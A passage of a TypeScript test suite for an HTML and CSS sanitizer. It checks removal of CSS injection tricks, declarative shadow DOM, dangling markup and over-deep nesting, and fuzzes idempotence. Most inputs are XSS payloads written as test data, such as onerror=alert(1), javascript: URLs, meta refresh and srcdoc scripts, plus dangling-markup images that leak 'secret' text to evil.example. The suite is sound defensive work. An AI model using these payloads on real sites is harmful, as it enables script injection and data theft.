    "removed CSS declaration (width with expression())"
  ]],
  [
    "image-set() loads URLs from strings",
    `<p style="background-image:image-set('https://evil.example/a.png' 1x)">a</p>`,
    `<p>a</p>`,
    [
      "removed CSS declaration (background-image with image-set())"
    ]
  ],
  ["an escape inside url: u\\rl(", `<style>p{background:u\\rl(https://evil.example/)}</style>`, ``, [
    "removed CSS declaration (background with CSS escapes)"
  ]],
  ["a hex escape: \\75rl(", `<p style="background:\\75rl(https://evil.example/)">a</p>`, `<p>a</p>`, [
    "removed CSS declaration (background with CSS escapes)"
  ]],
  ["an escaped property name", `<style>p{\\62 ehavior:url(x.htc)}</style>`, ``, [
    "removed CSS declaration (property ?62 ehavior)"
  ]],
  ["a comment splitting a token", `<style>p{background:u/**/rl(https://evil.example/)}</style>`, ``, [
    "removed CSS declaration (background with a comment)"
  ]],
  ["a comment splitting expression", `<p style="width:expr/**/ession(alert(1))">a</p>`, `<p>a</p>`, [
    "removed CSS declaration (width with a comment)"
  ]],
  [
    "</style> inside a string breaks out: the broken CSS goes, the markup after it is sanitized",
    `<style>p{content:"</style><img src=x onerror=alert(1)>"}</style><p>t</p>`,
    `<img src="x" />"}<p>t</p>`,
    [
      "removed event handler attribute onerror",
      "removed a <style> element whose CSS could not be parsed"
    ]
  ],
  [
    "</style> as a broken end tag",
    `<style>p{color:red}</style x="</style><img src=x onerror=alert(1)>"><p>t</p>`,
    `<style>p{color:red;}</style><img src="x" />"&gt;<p>t</p>`,
    [
      // htmlparser2 ends the end tag at its first `>`, a browser after the quoted value: either way what is
      // written out is sanitized markup.
      "removed event handler attribute onerror"
    ]
  ],
  [
    "behavior and -moz-binding",
    `<style>p{behavior:url(#x);-moz-binding:url(#x);color:red}</style>`,
    `<style>p{color:red;}</style>`,
    [
      "removed CSS declaration (property behavior)",
      "removed CSS declaration (property -moz-binding)"
    ]
  ],
  ["javascript: anywhere in a value", `<p style="content:'javascript:alert(1)'">a</p>`, `<p>a</p>`, [
    "removed CSS declaration (content with a script URL)"
  ]],
  [
    "@font-face with a remote src goes, a local one stays",
    `<style>@font-face{font-family:A;src:url(https://evil.example/a.woff2)}@font-face{font-family:B;src:local("B")}</style>`,
    `<style>@font-face{font-family:B;src:local("B");}</style>`,
    [
      "removed CSS declaration (src with a url() that is not a data: PNG, JPEG, GIF or WebP image or a #fragment)",
      "removed CSS @font-face without a local src"
    ]
  ],
  [
    "position: fixed, also through var()",
    `<p style="position:fixed;--p:fixed;top:0">a</p><p style="position:var(--p)">b</p>`,
    `<p style="--p:fixed;top:0">a</p><p>b</p>`,
    [
      "removed CSS declaration (position: fixed)",
      "removed CSS declaration (position: var(--p))"
    ]
  ],
  [
    "other at-rules",
    `<style>@namespace svg url(x);@charset "utf-8";@-moz-document url-prefix(){p{color:red}}p{color:blue}</style>`,
    `<style>p{color:blue;}</style>`,
    [
      "removed CSS @namespace rule",
      "removed CSS @charset rule",
      "removed CSS @-moz-document rule"
    ]
  ],
  ["unparseable CSS goes whole", `<style>p{color:red</style><p>x</p>`, `<p>x</p>`, [
    "removed a <style> element whose CSS could not be parsed"
  ]],
  ["an over-long stylesheet goes whole", `<style>${"p{color:red}".repeat(30_000)}</style><p>x</p>`, `<p>x</p>`, [
    "removed a <style> element longer than 262144 characters"
  ]],
  [
    "blocks nested too deeply go whole, unparsed",
    `<style>${"@media all{".repeat(9)}p{color:red}${"}".repeat(9)}</style><p>x</p>`,
    `<p>x</p>`,
    ["removed a <style> element nested deeper than 8 blocks"]
  ],
  [
    "at most 64 <style> elements",
    `${"<style>p{color:red}</style>".repeat(66)}<p>x</p>`,
    `${"<style>p{color:red;}</style>".repeat(64)}<p>x</p>`,
    ["removed <style> elements past the first 64"]
  ],
  [
    "style elements inside discarded elements go with them",
    `<svg><style>p{color:red}</style></svg><noscript><style>p{}</style></noscript>`,
    ``,
    [
      "removed <svg> element and its content",
      "removed <noscript> element and its content"
    ]
  ]
])

golden("declarative shadow DOM", [
  [
    "shadowrootmode template",
    `<div><template shadowrootmode="open"><img src=x onerror=alert(1)><slot></slot></template>light</div>`,
    `<div>light</div>`,
    ["removed <template> element and its content"]
  ],
  ["legacy shadowroot attribute", `<div><template shadowroot=open><style>*{}</style></template></div>`, `<div></div>`, [
    "removed <template> element and its content"
  ]]
])

golden("dangling markup", [
  ["unterminated image URL", `<p>secret</p><img src='https://evil.example/?`, `<p>secret</p>`, [
    "removed an unfinished tag at the end of the input (possible dangling markup)"
  ]],
  ["unterminated image URL swallowing following markup", `<img src='https://evil.example/?<p>secret</p>`, ``, [
    "removed an unfinished tag at the end of the input (possible dangling markup)"
  ]],
  [
    "a URL that carries markup and line breaks",
    `<img src="https://evil.example/?a\n<p>secret</p>"><a href='https://evil.example/?<b>'>x</a>`,
    `<img /><a ${REL}>x</a>`,
    [
      "removed URL containing line breaks or angle brackets (dangling markup) from src",
      "removed URL containing line breaks or angle brackets (dangling markup) from href"
    ]
  ],
  [
    "an open quote that runs into the next tag",
    `<img src='https://evil.example/?<p class='x'>secret</p>`,
    `<img />secret<p></p>`,
    [
      "removed URL containing line breaks or angle brackets (dangling markup) from src",
      "removed attribute x? from <img>"
    ]
  ],
  ["unterminated link", `<a href="https://evil.example/?<p>secret</p>`, ``, [
    "removed an unfinished tag at the end of the input (possible dangling markup)"
  ]]
])

describe("nesting limit", () => {
  const nested = (levels: number) => "<div>".repeat(levels) + "deep" + "</div>".repeat(levels)

  it(`keeps ${HTML_NESTING_LIMIT} levels`, () => {
    const result = clean(nested(HTML_NESTING_LIMIT))
    expect(result.html).toBe(nested(HTML_NESTING_LIMIT))
    expect(result.warnings).toEqual([])
  })

  it("drops deeper elements with their content, and says so", () => {
    const input = "<div>".repeat(HTML_NESTING_LIMIT) + "<p>too deep<b>x</b></p>" + "</div>".repeat(HTML_NESTING_LIMIT) +
      "<p>after</p>"
    const result = clean(input)
    expect(result.html).toBe("<div>".repeat(HTML_NESTING_LIMIT) + "</div>".repeat(HTML_NESTING_LIMIT) + "<p>after</p>")
    expect(result.warnings).toEqual([`content nested deeper than ${HTML_NESTING_LIMIT} levels was dropped`])
  })

  it("counts disallowed wrappers as nothing, since they are removed", () => {
    const input = "<font>".repeat(300) + nested(10)
    const result = clean(input)
    expect(result.html).toBe(nested(10))
    expect(result.warnings).toEqual(["removed <font> element (its content was kept)"])
  })

  it("1 MiB of hostile CSS (many stylesheets, long style attributes, deep blocks, open parentheses) is sanitized in bounded time", () => {
    const units = [
      `<style>a{b:c}</style>`,
      `<b style="color:red;background:url(http://x/);width:calc(1px + 2px)">x</b>`,
      `<p style="${"a:b;".repeat(4000)}">x</p>`,
      `<style>${"a{".repeat(5000)}${"}".repeat(5000)}</style>`,
      `<style>${"(".repeat(100_000)}</style>`
    ]
    for (const unit of units) {
      const input = unit.repeat(Math.ceil(2 ** 20 / unit.length)).slice(0, 2 ** 20)
      const started = performance.now()
      const result = sanitizeHtml(input)
      expect(performance.now() - started, unit.slice(0, 40)).toBeLessThan(5_000)
      expect(unsafeParts(result.html)).toEqual([])
    }
  })

  it("1 MiB of hostile, deeply nested HTML is sanitized in linear time (bench/sanitize.ts measures the 500 ms target)", () => {
    const unit = `<div onclick=x><a href=javascript:1><svg><style></style></svg><span><table><tr><td><b>`
    const input = unit.repeat(Math.ceil(2 ** 20 / unit.length))
    const started = performance.now()
    const result = sanitizeHtml(input)
    // Quadratic behaviour (htmlparser2's own stack at this depth) takes tens of seconds; linear is well under one.
    expect(performance.now() - started).toBeLessThan(5_000)
    expect(unsafeParts(result.html)).toEqual([])
    expect(result.warnings).toContain(`content nested deeper than ${HTML_NESTING_LIMIT} levels was dropped`)
  })
})

describe("warnings", () => {
  it("are deduplicated", () => {
    const result = sanitizeHtml(`<script>1</script>`.repeat(10) + `<img src=x onerror=1>`.repeat(10))
    expect(result.warnings).toEqual([
      "removed <script> element and its content",
      "removed event handler attribute onerror"
    ])
  })

  it("are capped, and attacker-chosen names are shortened and made printable", () => {
    const input = Array.from({ length: 200 }, (_, i) => `<x-${i}>t</x-${i}>`).join("") +
      `<p on"><script>="1">`
    const result = sanitizeHtml(input)
    expect(result.warnings.length).toBe(51)
    expect(result.warnings.at(-1)).toBe("further warnings were omitted")
    const long = sanitizeHtml(`<p on${"x".repeat(500)}=1 on"'<>=2>t</p>`)
    expect(long.warnings).toEqual([
      `removed event handler attribute on${"x".repeat(38)}…`,
      `removed event handler attribute on???`
    ])
  })

  it("clean input has none", () => {
    expect(sanitizeHtml(`<p>Hello <a href="https://e.example">world</a></p>`).warnings).toEqual([])
  })
})

describe("idempotence over generated input", () => {
  const fragments = [
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<span>",
    "</span>",
    `<a href="https://e.example/?a=1&amp;b=2">`,
    "</a>",
    `<a href='javascript:alert(1)'>`,
    "<img src=x onerror=alert(1)>",
    `<img src="data:image/png;base64,iVBOR" alt="a">`,
    "<img src='https://x/?",
    "<svg/onload=alert(1)>",
    "</svg>",
    "<math><mtext><table><mglyph><style>",
    "</style>",
    "<script>alert(1)</script>",
    "<script>",
    "</script>",
    "<noscript>",
    "</noscript>",
    "<textarea>",
    "</textarea>",
    "<title>",
    "</title>",
    "<xmp>",
    "</xmp>",
    "<noembed>",
    "</noembed>",
    "<iframe srcdoc='<script>1</script>'>",
    "</iframe>",
    "<template shadowrootmode=open>",
    "</template>",
    "<!--",
    "-->",
    "<!-->",
    "<![CDATA[",
    "]]>",
    "<?xml x?>",
    "<!DOCTYPE html>",
    "<table>",
    "</table>",
    "<tr>",
    "</tr>",
    "<td colspan=2>",
    "</td>",
    "<th>",
    "<thead>",
    "<tbody>",
    "<caption>",
    "<col span=2>",
    "<ul>",
    "<li>",
    "</li>",
    "</ul>",
    "<ol start=3>",
    "<dl>",
    "<dt>",
    "<dd>",
    "<pre>",
    "</pre>",
    "<code>",
    "</code>",
    "<form action=javascript:1>",
    "</form>",
    "<button formaction=javascript:1>",
    "<input type=checkbox>",
    "<select>",
    "<option>",
    "</select>",
    "<input type=checkbox disabled>",
    "<input type=CHECKBOX checked=checked disabled form=f name=n onclick=1>",
    "<input type=text disabled>",
    "<input type=hidden name=x value=y>",
    "<input type=image src=javascript:1>",
    "<input disabled>",
    "<input type=checkbox disabled",
    "</input>",
    "<form id=f>",
    "<button>",
    "</button>",
    "<section data-footnotes class=footnotes>",
    "</section>",
    "<section data-footnotes=x>",
    `<a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref aria-describedby="footnote-label">`,
    `<a href="#user-content-fnref-1" data-footnote-backref="" aria-label="Back to reference 1" class="x">`,
    `<a data-footnote-ref=x aria-describedby=login id=login name=y>`,
    `<h2 class="sr-only" id="footnote-label">`,
    "</h2>",
    `<li id="user-content-fn-%C3%A9">`,
    `<li class=task-list-item>`,
    `<ul class=contains-task-list>`,
    "<div id=login>",
    "<div id=user-content-x&amp;y>",
    `<p id="user-content-a'b">`,
    "<sup>",
    "</sup>",
    "<base href=//evil>",
    "<meta http-equiv=refresh content='0;url=javascript:1'>",
    "<link rel=stylesheet href=x>",
    "<object data=x>",
    "<embed src=x>",
    `<h1 id=top class="a b$">`,
    "</h1>",
    "<blockquote cite=https://x>",
    "</blockquote>",
    "<details open>",
    "<summary>",
    "</details>",
    "<b>",
    "</b>",
    "<i>",
    "<em>",
    "</em>",
    "<strong>",
    "<u>",
    "<br>",
    "<hr>",
    "</br>",
    "<p/>",
    "<div/>",
    "text",
    " ",
    "\n",
    "&amp;",
    "&lt;script&gt;",
    "&",
    "<",
    ">",
    "\"",
    "'",
    "=",
    "/",
    "\u0000",
    "&#0;",
    "&nbsp;",
    "é",
    "<x-custom onclick=1>",
    "<font color=red>",
    "</font>",
    "<center>",
    `<a href="jav&#x09;ascript:1">`,
    `<div style="background:url(javascript:1)">`,
    `<p style="color:red;position:fixed">`,
    "<style>",
    "</style>",
    "p{color:red}",
    "@media all{",
    "}",
    "{",
    "url(data:image/png;base64,AA==)",
    "u\\rl(",
    "/*",
    "*/",
    "@import x;",
    `<h2 id="setup">`,
    `<a href="#setup">`,
    `<p title="</p><script>">`,
    "<plaintext>",
    "<frameset>",
    "<html>",
    "<head>",
    "<body>",
    "</body>",
    "<image src=y>",
    "<a",
    " href=",
    "javascript:",
    "data:text/html,",
    "on",
    "error=",
    "<img",
    " src=",
    "<div>".repeat(40)
  ]

  // mulberry32: a tiny seeded PRNG, so a failure names an input that can be replayed.
  const prng = (seed: number) => () => {
    seed = (seed + 0x6d2b79f5) | 0
    let t = seed
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }

  it("sanitize(sanitize(x)) = sanitize(x), with no new warnings and nothing unsafe, for 2000 inputs", () => {
    const random = prng(20240506)
    for (let n = 0; n < 2000; n++) {
      const length = 1 + Math.floor(random() * 40)
      let input = ""
      for (let i = 0; i < length; i++) input += fragments[Math.floor(random() * fragments.length)]
      const once = sanitizeHtml(input).html
      const twice = sanitizeHtml(once)
      expect({ input, html: twice.html, warnings: twice.warnings }).toEqual({ input, html: once, warnings: [] })
      expect({ input, unsafe: unsafeParts(once) }).toEqual({ input, unsafe: [] })
    }
  })
})

describe("htmlToText", () => {
  it("strips tags, decodes entities and puts blocks, list items and br on their own lines", () => {
    const html = `<h1>Title</h1><p>One &amp; <em>two</em>&nbsp;&lt;three&gt;</p><ul><li>a</li><li>b<br>c</li></ul>` +
      `<div>d</div><div>e</div><blockquote><p>q</p></blockquote>`
    expect(htmlToText(html)).toBe("Title\n\nOne & two\u00a0<three>\n\na\nb\nc\n\nd\ne\n\nq".replace("\u00a0", " "))
  })

  it("collapses whitespace, keeps it inside pre, and never leaves more than one blank line", () => {
    expect(htmlToText(`<p>  a \n\t b  </p>\n\n\n<p>c</p>`)).toBe("a b\n\nc")
    expect(htmlToText(`<pre>line 1\n  indented\n\n\n\nend</pre><p>x</p>`)).toBe("line 1\n  indented\n\nend\n\nx")
    expect(htmlToText(`a<br><br><br><br>b`)).toBe("a\n\nb")
    expect(htmlToText(`<p>a</p><p></p><p></p><div></div><p>b</p>`)).toBe("a\n\nb")
  })

  it("keeps inline text together and spaces words across inline tags as written", () => {
    expect(htmlToText(`<p>foo<b>bar</b> <i>baz</i> qux<a href="#">link</a></p>`)).toBe("foobar baz quxlink")
  })

  it("puts table rows on lines and separates cells with a tab", () => {
    expect(htmlToText(`<table><caption>T</caption><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>`))
      .toBe("T\na\tb\n1\t2")
  })

  it("drops the content of script, style and other non-text elements even in unsanitized input", () => {
    expect(htmlToText(`<p>a</p><script>alert(1)</script><style>p{}</style><svg><text>s</text></svg><p>b</p>`))
      .toBe("a\n\nb")
    expect(htmlToText(`<title>T</title><noscript>n</noscript><template>t</template>x`)).toBe("x")
  })

  it("is empty for empty or tag-only input, and bounded on deep input", () => {
    expect(htmlToText("")).toBe("")
    expect(htmlToText("<div><p></p></div>")).toBe("")
    expect(htmlToText("<div>".repeat(200_000) + "deep")).toBe("")
    expect(htmlToText("<div>".repeat(HTML_NESTING_LIMIT) + "ok")).toBe("ok")
  })

  it("reads sanitized output the same as its input", () => {
    const html = `<p>a <b onclick=x>b</b></p><table><tr><td>c</td><td>d</td></tr></table>`
    expect(htmlToText(sanitizeHtml(html).html)).toBe(htmlToText(html))
  })
})
